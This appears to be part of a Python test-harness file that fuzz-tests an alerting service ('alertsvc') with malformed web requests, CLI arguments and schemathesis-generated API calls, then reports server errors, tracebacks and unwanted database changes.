        if "Traceback (most recent call last)" in result.stdout + result.stderr:
            t.tracebacks.append(f"alertsvc {_short(argv)}: {result.stderr[-300:]!r}")
        moved = tables.changed()
        if result.returncode != 0 and moved:
            t.stored.append(f"alertsvc {_short(argv)} -> exit {result.returncode} changed {moved}")
    return t


# -- schemathesis --------------------------------------------------------------------------


def schemathesis_run(base_url: str, token: str, examples: int) -> tuple[int, list[str], int]:
    """Every operation in /api/v1/openapi.json, valid and invalid requests, with a token of
    every scope. Returns (cases, server errors, operations)."""
    import schemathesis

    schema = schemathesis.openapi.from_url(f"{base_url}/api/v1/openapi.json")
    operations = [result.ok() for result in schema.get_all_operations()]
    cases = 0
    errors: list[str] = []
    headers = {"Authorization": f"Bearer {token}"}
    with httpx.Client(timeout=30.0) as client:
        for operation in operations:
            for mode in (
                schemathesis.GenerationMode.POSITIVE,
                schemathesis.GenerationMode.NEGATIVE,
            ):

                def call(case: Any, label: str = operation.label) -> None:
                    nonlocal cases
                    cases += 1
                    kwargs = case.as_transport_kwargs(base_url=base_url, headers=headers)
                    kwargs.pop("verify", None)
                    cookies = kwargs.pop("cookies", None) or {}
                    if cookies:
                        kwargs.setdefault("headers", {})["Cookie"] = "; ".join(
                            f"{name}={value}" for name, value in cookies.items()
                        )
                    try:
                        response = client.request(**kwargs)
                    except httpx.HTTPError as error:
                        errors.append(f"{label}: {type(error).__name__}")
                        return
                    if response.status_code >= 500:
                        errors.append(f"{label} -> {response.status_code}")

                _run(operation.as_strategy(generation_mode=mode), examples, call)
    return cases, errors, len(operations)


# -- the scenario --------------------------------------------------------------------------


@contextlib.contextmanager
def _mail_dir() -> Iterator[str]:
    with tempfile.TemporaryDirectory(prefix="hostile-mail-") as directory:
        yield directory


def run(short: bool) -> Row:
    size = "short" if short else "full"
    share = SHORT_SHARE if short else 1.0
    row = Row(scenario=NAME, load="", faults="hostile requests, bodies and arguments")
    saved_environment = dict(os.environ)
    # The app configures logging when created here; httpx would log every request.
    logging.getLogger("httpx").setLevel(logging.WARNING)
    try:
        with scenario_database("hostile_input") as database_url, _mail_dir() as mail_dir:
            env = _settings(database_url, mail_dir)
            step("hostile input: migrating and seeding")
            app = _app(env)
            with app.app_context():
                upgrade()  # the real migrations, in this process: one start-up fewer
            seeds = seed(app)
            engine = create_engine(database_url)
            from alertsvc.extensions import db

            tables = Tables(engine, [t.name for t in db.metadata.sorted_tables])
            try:
                # A loaded machine (other scenarios at once) can take a while to start it.
                with gunicorn("wsgi:app", env=env, workers=2, ready_timeout=120) as server:
                    web = Web(server.url, tables)
                    step(f"hostile input: web targets on {server.url}")
                    found = fuzz_web(web, seeds, share)
                    step("hostile input: CLI commands in-process")
                    found.append(fuzz_cli(app, tables, share))
                    step("hostile input: CLI commands as processes")
                    found.append(cli_processes(app, env, tables, CLI_PROCESS_SAMPLE[size]))
                    step("hostile input: schemathesis on /api/v1/openapi.json")
                    st_cases, st_errors, operations = schemathesis_run(
                        server.url, seeds.api_tokens["all"], SCHEMATHESIS_EXAMPLES[size]
                    )
                    web.client.close()
            finally:
                engine.dispose()
                with app.app_context():
                    db.engine.dispose()
    finally:
        os.environ.clear()
        os.environ.update(saved_environment)
    return _report(row, found, st_cases, st_errors, operations, size)


def _report(
    row: Row, found: list[Target], st_cases: int, st_errors: list[str], operations: int, size: str
) -> Row:
    total = sum(t.cases for t in found)
    row.load = f"{total} cases, {len(found)} targets; schemathesis {st_cases} on {operations} ops"
    row.errors = sum(t.errors for t in found) + len(st_errors)
    for t in found:
        statuses = ", ".join(f"{k}: {v}" for k, v in sorted(t.statuses.items(), key=str))
        row.notes.append(f"{t.name}: {t.cases} cases ({statuses}); errors {t.errors}")
        step(f"hostile input: {t.name}: {t.cases} cases, errors {t.errors}")
        for kind, items in (
            ("5xx", t.server_errors),
            ("stored by a rejected request", t.stored),
            ("traceback", t.tracebacks),
            ("no answer", t.broken),
        ):
            for item in items[:3]:
                row.notes.append(f"{t.name}: {kind}: {item}")
                print(f"  {kind}: {item}", flush=True)
    row.notes.append(
        f"schemathesis: {st_cases} cases on {operations} operations, {len(st_errors)} server errors"
    )
    row.notes += [f"schemathesis: {error}" for error in st_errors[:3]]
    server_errors = sum(len(t.server_errors) for t in found)
    row.require(total >= MIN_CASES[size], f"only {total} cases (target {MIN_CASES[size]})")
    row.require(server_errors == 0, f"{server_errors} responses with status 5xx")
    row.require(sum(len(t.tracebacks) for t in found) == 0, "the CLI raised or printed a traceback")
    row.require(sum(len(t.stored) for t in found) == 0, "a rejected request changed a table's rows")
    row.require(sum(len(t.broken) for t in found) == 0, "a request got no answer")
    row.require(not st_errors, f"schemathesis: {len(st_errors)} server errors")
    row.require(operations >= 12, f"the API document lists only {operations} operations")
    return row


if __name__ == "__main__":
    from bench.reliability.run import main

    sys.exit(main([*sys.argv[1:], "hostile_input"]))
